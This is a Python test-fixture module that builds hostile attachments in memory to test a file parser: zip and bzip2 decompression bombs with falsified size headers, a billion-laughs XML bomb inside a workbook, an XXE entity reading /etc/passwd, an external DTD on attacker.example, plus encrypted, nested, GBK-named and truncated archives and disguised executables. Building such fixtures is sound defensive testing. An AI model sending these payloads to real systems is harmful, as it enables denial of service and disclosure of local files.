"""Hostile and odd attachments, built in memory: bombs, executables, encrypted and GBK-named files.

Bombs are assembled from precompressed blocks: after a full flush, deflating
another megabyte of zeros gives the same bytes, so a 1 GB bomb costs one
megabyte of compression (and a CRC pass) instead of seconds of zlib.
"""

from __future__ import annotations

import bz2
import io
import struct
import zipfile
import zlib
from functools import lru_cache

MB = 1024 * 1024
ZEROS = b"\0" * MB
STORED, DEFLATED, BZIP2 = zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2


# --- a zip writer that writes whatever the headers should claim -------------------------------

def raw_member(name: str, data: bytes, method: int = DEFLATED) -> tuple[str, bytes, int, int, int]:
    """(name, compressed bytes, crc, size, method) for :func:`raw_zip`, from plain content."""
    if method == DEFLATED:
        packer = zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS)
        packed = packer.compress(data) + packer.flush()
    elif method == BZIP2:
        packed = bz2.compress(data)
    else:
        packed = data
    return name, packed, zlib.crc32(data), len(data), method


def raw_zip(members: list[tuple[str, bytes, int, int, int]], *, declared_size: int | None = None) -> bytes:
    """A zip of already compressed members; ``declared_size`` replaces every member's real size
    in both the local header and the central directory (a lying archive)."""
    out, central = bytearray(), bytearray()
    for name, packed, crc, size, method in members:
        raw_name = name.encode("utf-8")
        size = size if declared_size is None else declared_size
        fields = (20, 0x800, method, 0, 0x21, crc, len(packed), size, len(raw_name))
        central += b"PK\x01\x02" + struct.pack("<HHHHHHIIIHHHHHII", 20, *fields, 0, 0, 0, 0, 0, len(out))
        central += raw_name
        out += b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", *fields, 0) + raw_name + packed
    count = min(len(members), 0xFFFF)  # zipfile reads records until the directory size, not the count
    end = struct.pack("<HHHHIIH", 0, 0, count, count, len(central), len(out), 0)
    return bytes(out + central + b"PK\x05\x06" + end)


@lru_cache(maxsize=8)
def _repeated_member(name: str, megabytes: int, block: bytes, head: bytes = b"", tail: bytes = b""):
    """``head + block * megabytes + tail`` deflated, without deflating every block."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    one = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)  # the same bytes every time
    last = packer.compress(tail) + packer.flush()
    crc = zlib.crc32(head)
    for _ in range(megabytes):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    return name, first + one * megabytes + last, crc, len(head) + len(block) * megabytes + len(tail), DEFLATED


# --- bombs ---------------------------------------------------------------------------------------

def zip_bomb(megabytes: int = 1024, name: str = "zeros.bin") -> bytes:
    """One member of ``megabytes`` MB of zeros, deflated to about a thousandth of that (1 GB -> 1 MB)."""
    return raw_zip([_repeated_member(name, megabytes, ZEROS)])


def lying_zip_bomb(megabytes: int = 200, declared: int = 1024) -> bytes:
    """A bomb whose local header and central directory both claim ``declared`` bytes:
    no declared size or ratio gives it away, only really inflating it does."""
    return raw_zip([_repeated_member("zeros.bin", megabytes, ZEROS)], declared_size=declared)


def lying_bzip2_bomb(megabytes: int = 100, declared: int = 1024) -> bytes:
    """The same lie in bzip2: ~150 bytes that zipfile inflates in one unbounded call."""
    packer = bz2.BZ2Compressor(9)
    packed = b"".join(packer.compress(ZEROS) for _ in range(megabytes)) + packer.flush()
    crc = 0
    for _ in range(megabytes):
        crc = zlib.crc32(ZEROS, crc)
    return raw_zip([("zeros.bin", packed, crc, megabytes * MB, BZIP2)], declared_size=declared)


def xlsx_bomb(valid_xlsx: bytes, megabytes: int = 500) -> bytes:
    """A real workbook whose sheet1.xml is padded with ``megabytes`` MB of spaces (deflates to ~nothing)."""
    members = []
    with zipfile.ZipFile(io.BytesIO(valid_xlsx)) as src:
        for info in src.infolist():
            content = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                head, _, tail = content.partition(b"<sheetData>")
                members.append(_repeated_member(info.filename, megabytes, b" " * MB, head, b"<sheetData>" + tail))
            else:
                members.append(raw_member(info.filename, content))
    return raw_zip(members)


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    + "]>"
)


def xml_bomb_xlsx(valid_xlsx: bytes) -> bytes:
    """A workbook whose sheet XML expands a billion-laughs entity (a few KB on disk, 3 GB expanded)."""
    src = zipfile.ZipFile(io.BytesIO(valid_xlsx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                body = content.decode("utf-8").split("?>", 1)[-1]
                body = body.replace("<t>", "<t>&lol9;", 1)
                content = (BILLION_LAUGHS + body).encode("utf-8")
            dst.writestr(info, content)
    return out.getvalue()


XXE = '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
EXTERNAL_DTD = '<?xml version="1.0"?><!DOCTYPE worksheet SYSTEM "http://attacker.example/w.dtd">'


def dtd_xlsx(valid_xlsx: bytes, prolog: str = XXE, part: str = "xl/worksheets/sheet1.xml",
             encoding: str = "utf-8") -> bytes:
    """A workbook whose ``part`` starts with ``prolog`` (an external entity, an external DTD...) instead of
    its XML declaration; the first shared or inline string then refers to ``&xxe;`` when declared."""
    from tests.builders.workbooks import edit_parts

    body = zipfile.ZipFile(io.BytesIO(valid_xlsx)).read(part).decode("utf-8").split("?>", 1)[-1]
    if "<!ENTITY xxe" in prolog:
        body = body.replace("<t>", "<t>&xxe;", 1)
    text = prolog + body
    if encoding != "utf-8":
        text = text.replace('<?xml version="1.0"?>', f'<?xml version="1.0" encoding="{encoding}"?>')
    return edit_parts(valid_xlsx, {part: text.encode(encoding)})


def with_member(data: bytes, name: str, content: bytes) -> bytes:
    """The zip with one more member (e.g. an image an office program would not reference)."""
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(name, content)
    return out.getvalue()


SVG_WITH_DOCTYPE = (b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
                    b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>')


# --- odd archives --------------------------------------------------------------------------------

def nested_zip(depth: int, inner_name: str = "台账.xlsx", inner: bytes = b"PK") -> bytes:
    """``inner`` wrapped in ``depth`` levels of zip."""
    data, name = inner, inner_name
    for level in range(depth):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as zf:
            zf.writestr(name, data)
        data, name = out.getvalue(), f"第{level + 1}层.zip"
    return data


def many_member_zip(count: int = 1000) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        for i in range(count):
            zf.writestr(f"f{i}.txt", "x")
    return out.getvalue()


def gbk_named_zip(members: dict[str, bytes]) -> bytes:
    """A zip as Chinese Windows tools write it: GBK names and no UTF-8 flag."""
    out = io.BytesIO()
    placeholders = {}
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for number, (name, content) in enumerate(members.items()):
            raw = name.encode("gbk")
            placeholder = f"{number:03d}".encode() + b"_" * (len(raw) - 3)  # ASCII, same length
            placeholders[placeholder] = raw
            zf.writestr(placeholder.decode(), content)
    data = out.getvalue()
    for placeholder, raw in placeholders.items():  # local header and central directory
        data = data.replace(placeholder, raw)
    return data


def encrypted_zip(members: dict[str, bytes]) -> bytes:
    """Members flagged as (ZipCrypto) encrypted, as a password-protected 360压缩/WinRAR zip looks."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        for name, content in members.items():
            zf.writestr(name, content)
    data = bytearray(out.getvalue())
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            data[at + flag_offset] |= 1
            at = data.find(signature, at + 4)
    return bytes(data)


def truncated(data: bytes) -> bytes:
    """Cut in half, as an interrupted upload leaves it."""
    return data[: len(data) // 2]


# --- programs, OLE files, other types ------------------------------------------------------------

def pe_executable() -> bytes:
    """The start of a Windows PE file: what a 'report.pdf.exe' renamed 报告.pdf really is."""
    stub = bytearray(b"MZ" + b"\x90\x00" * 29 + b"\x80\x00\x00\x00")
    stub += b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    return bytes(stub) + b"\0" * 512


def elf_executable() -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\0" * 500


def encrypted_xlsx(valid_xlsx: bytes, password: str = "123456") -> bytes:
    """A password-protected workbook, as Excel/WPS save it (an OLE file with EncryptedPackage)."""
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(valid_xlsx)).encrypt(password, out)
    return out.getvalue()


def ole_file(streams: dict[str, bytes]) -> bytes:
    """A minimal valid OLE2 (CFB v3) file holding up to three streams, e.g. {"WordDocument": ...}.

    Streams are padded to 4096 bytes so they live in ordinary sectors (no mini stream).
    Layout: sector 0 FAT, sector 1 directory, then the streams.
    """
    assert len(streams) <= 3, "one directory sector holds the root and three streams"
    end, free, fat_sector, none = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    bodies = [data.ljust(max(4096, -(-len(data) // 512) * 512), b"\0") for data in streams.values()]
    fat, entries, next_sector = [fat_sector, end], [], 2
    entries.append(_ole_entry("Root Entry", 5, end, 0, child=1 if streams else none))
    for number, (name, body) in enumerate(zip(streams, bodies), start=1):
        count = len(body) // 512
        fat += [next_sector + i + 1 for i in range(count - 1)] + [end]
        right = number + 1 if number < len(streams) else none
        entries.append(_ole_entry(name, 2, next_sector, len(body), right=right))
        next_sector += count
    entries += [_ole_entry("", 0, 0, 0)] * (4 - len(entries))
    header = struct.pack("<8s16sHHHHH6sIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"", 0x3E, 3, 0xFFFE,
                         9, 6, b"", 0, 1, 1, 0, 4096, end, 0, end, 0)
    header += struct.pack("<109I", 0, *[free] * 108)
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat) + struct.pack("<I", free) * (128 - len(fat))
    return header + fat_bytes + b"".join(entries) + b"".join(bodies)


def _ole_entry(name: str, kind: int, start: int, size: int, *, right: int = 0xFFFFFFFF,
               child: int = 0xFFFFFFFF) -> bytes:
    raw = name.encode("utf-16-le") + b"\0\0" if name else b""
    return struct.pack("<64sHBBIII16sIQQIQ", raw, len(raw), kind, 1, 0xFFFFFFFF, right, child, b"", 0, 0, 0,
                       start, size)


def docx(text: str = "整改报告") -> bytes:
    """A minimal Word document (zip with word/document.xml)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("word/document.xml", f"<w:document><w:body><w:t>{text}</w:t></w:body></w:document>")
    return out.getvalue()


def jpeg() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (50, 50), (200, 200, 200)).save(out, "JPEG")
    return out.getvalue()
